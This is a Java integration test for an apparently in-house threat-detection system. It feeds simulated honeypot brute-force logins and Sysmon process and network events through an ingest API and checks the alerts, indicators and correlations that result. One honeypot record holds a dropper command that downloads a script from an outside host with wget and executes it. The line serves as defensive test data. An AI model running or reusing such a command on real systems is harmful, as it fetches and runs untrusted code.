package io.hsystem.detection;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

import io.hsystem.support.IntegrationTest;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import tools.jackson.databind.JsonNode;

/** Events in through the ingest API, alerts out of the alert API: the detection path whole. */
class DetectionFlowTest extends IntegrationTest {

  @Autowired DetectionEngine engine;
  private String analyst;

  @BeforeEach
  void tokens() throws Exception {
    analyst = token("analyst");
  }

  String key(String sourceType) throws Exception {
    String body =
        mvc.perform(
                postJson(
                    token("admin"),
                    "/api/v1/ingest/keys",
                    "{\"name\": \"" + sourceType + "\", \"source_type\": \"" + sourceType + "\"}"))
            .andExpect(status().isCreated())
            .andReturn()
            .getResponse()
            .getContentAsString();
    return json.readTree(body).get("api_key").asString();
  }

  void ingest(String key, List<Map<String, Object>> records) throws Exception {
    long before = engine.analysed();
    StringBuilder ndjson = new StringBuilder();
    for (Map<String, Object> r : records) {
      ndjson.append(json.writeValueAsString(r)).append('\n');
    }
    mvc.perform(
            post("/api/v1/ingest/events")
                .header("X-API-Key", key)
                .contentType("application/x-ndjson")
                .content(ndjson.toString()))
        .andExpect(status().isOk());
    long deadline = System.currentTimeMillis() + 10_000;
    while (engine.analysed() < before + records.size() && System.currentTimeMillis() < deadline) {
      Thread.sleep(10);
    }
    assertThat(engine.analysed()).isGreaterThanOrEqualTo(before + records.size());
  }

  JsonNode alerts(String query) throws Exception {
    assertThat(engine.awaitIdle(10_000)).isTrue();
    return json.readTree(
        mvc.perform(getAs(analyst, "/api/v1/alerts?size=200&" + query))
            .andExpect(status().isOk())
            .andReturn()
            .getResponse()
            .getContentAsString());
  }

  static Map<String, Object> honeypot(
      String type, String service, long port, String user, String password, Instant t) {
    Map<String, Object> r = new java.util.LinkedHashMap<>();
    r.put("event_time", t.toString());
    r.put("event_type", type);
    r.put("event_category", "honeypot");
    r.put("sensor_id", "hp-01");
    r.put("host_name", "hp-01");
    r.put("service", service);
    r.put("src_ip", "45.141.84.12");
    r.put("dst_port", port);
    if (user != null) {
      r.put("username", user);
      r.put("password", password);
    }
    return r;
  }

  @Test
  void honeypotBruteForceRaisesOneGroupedAlertPerServiceAndLoginsAndCommandsTheirOwn()
      throws Exception {
    String key = key("hsystem_sensor");
    Instant t = START.minusSeconds(300);
    List<Map<String, Object>> records = new ArrayList<>();
    for (int i = 0; i < 20; i++) {
      records.add(honeypot("login_attempt", "ssh", 2222, "root", "pass" + i, t.plusSeconds(i)));
      records.add(honeypot("login_attempt", "ftp", 2121, "admin", "pass" + i, t.plusSeconds(i)));
    }
    records.add(honeypot("login_success", "ssh", 2222, "root", "123456", t.plusSeconds(30)));
    Map<String, Object> command = honeypot("command", "ssh", 2222, null, null, t.plusSeconds(40));
    command.put("command_line", "cd /tmp; wget http://198.51.100.7/x.sh; chmod +x x.sh; ./x.sh");
    records.add(command);
    ingest(key, records);

    JsonNode brute = alerts("alert_type=honeypot_brute_force");
    assertThat(brute.get("total").asLong()).isEqualTo(2);
    for (JsonNode alert : brute.get("items")) {
      assertThat(alert.get("severity").asString()).isEqualTo("high");
      assertThat(alert.get("src_ip").asString()).isEqualTo("45.141.84.12");
      assertThat(alert.get("rule_author").asString()).isEqualTo("H-System");
      assertThat(alert.get("attack_techniques").toString()).contains("T1110.001");
      // 20 attempts per service: the correlation fires at 10 and again at 20, one alert
      assertThat(alert.get("count").asLong()).isEqualTo(20);
    }
    JsonNode attempts = alerts("alert_type=honeypot_login_attempt");
    assertThat(attempts.get("total").asLong()).isEqualTo(1);
    assertThat(attempts.get("items").get(0).get("count").asLong()).isEqualTo(40);
    assertThat(alerts("alert_type=honeypot_login_success").get("total").asLong()).isEqualTo(1);
    assertThat(alerts("alert_type=honeypot_command").get("total").asLong()).isEqualTo(1);
    JsonNode dropper = alerts("alert_type=honeypot_malware_dropper");
    assertThat(dropper.get("items").get(0).get("severity").asString()).isEqualTo("critical");

    // the attacker is now a low-confidence indicator of source honeypot
    JsonNode iocs =
        json.readTree(
            mvc.perform(getAs(analyst, "/api/v1/intel/iocs?source=honeypot"))
                .andReturn()
                .getResponse()
                .getContentAsString());
    assertThat(iocs.get("total").asLong()).isEqualTo(1);
    assertThat(iocs.at("/items/0/value").asString()).isEqualTo("45.141.84.12");
    assertThat(iocs.at("/items/0/confidence").asInt()).isEqualTo(30);
  }

  static Map<String, Object> sysmon(int id, String host, Instant t, Map<String, Object> data) {
    Map<String, Object> r = new java.util.LinkedHashMap<>();
    r.put("EventID", id);
    r.put("Channel", "Microsoft-Windows-Sysmon/Operational");
    r.put("SourceName", "Microsoft-Windows-Sysmon");
    r.put("Hostname", host);
    r.put("UtcTime", t.toString().replace("T", " ").replace("Z", ""));
    r.putAll(data);
    return r;
  }

  void indicator(String ip) throws Exception {
    mvc.perform(
            postJson(
                analyst,
                "/api/v1/intel/iocs",
                "{\"type\": \"ip\", \"value\": \""
                    + ip
                    + "\", \"confidence\": 90, \"source\":"
                    + " \"manual\"}"))
        .andExpect(status().isCreated());
  }

  List<Map<String, Object>> unusualProcessThenConnection(
      String host, String ip, Instant start, long secondsApart) {
    return List.of(
        sysmon(
            1,
            host,
            start,
            Map.of(
                "Image", "C:\\Users\\Public\\update.exe",
                "CommandLine", "C:\\Users\\Public\\update.exe -silent",
                "ProcessId", 4242,
                "User", "CORP\\bob")),
        sysmon(
            3,
            host,
            start.plusSeconds(secondsApart),
            Map.of(
                "Image",
                "C:\\Users\\Public\\update.exe",
                "ProcessId",
                4242,
                "Protocol",
                "tcp",
                "SourceIp",
                "10.0.0.8",
                "SourcePort",
                50123,
                "DestinationIp",
                ip,
                "DestinationPort",
                443)));
  }

  @Test
  void theSpecsCorrelationFiresOnlyForAMaliciousIpWithinTenMinutes() throws Exception {
    String key = key("sysmon");
    indicator("185.220.101.4");
    Instant t = START.minusSeconds(3600);
    ingest(key, unusualProcessThenConnection("WS-01", "185.220.101.4", t, 120));
    ingest(key, unusualProcessThenConnection("WS-02", "93.184.216.34", t, 120)); // benign
    ingest(key, unusualProcessThenConnection("WS-03", "185.220.101.4", t, 660)); // 11 min

    JsonNode correlated = alerts("alert_type=unusual_process_then_malicious_ip");
    assertThat(correlated.get("total").asLong()).isEqualTo(1);
    JsonNode alert = correlated.get("items").get(0);
    assertThat(alert.get("host_name").asString()).isEqualTo("WS-01");
    assertThat(alert.get("severity").asString()).isEqualTo("critical");
    assertThat(alert.get("detection_source").asString()).isEqualTo("correlation");
    JsonNode detail =
        json.readTree(
            mvc.perform(getAs(analyst, "/api/v1/alerts/" + alert.get("id").asLong()))
                .andReturn()
                .getResponse()
                .getContentAsString());
    assertThat(detail.at("/evidence/events")).hasSize(2);
    assertThat(detail.at("/evidence/events/1/dst_ip").asString()).isEqualTo("185.220.101.4");

    // the parts alert on their own too, and the indicator raises its own alert
    assertThat(alerts("alert_type=win_process_unusual_path").get("total").asLong()).isEqualTo(3);
    assertThat(alerts("alert_type=net_malicious_ip").get("total").asLong()).isEqualTo(2);
    JsonNode ioc = alerts("alert_type=ioc_ip");
    assertThat(ioc.get("total").asLong()).isEqualTo(2);
    assertThat(ioc.get("items").get(0).get("detection_source").asString()).isEqualTo("intel");
  }
}
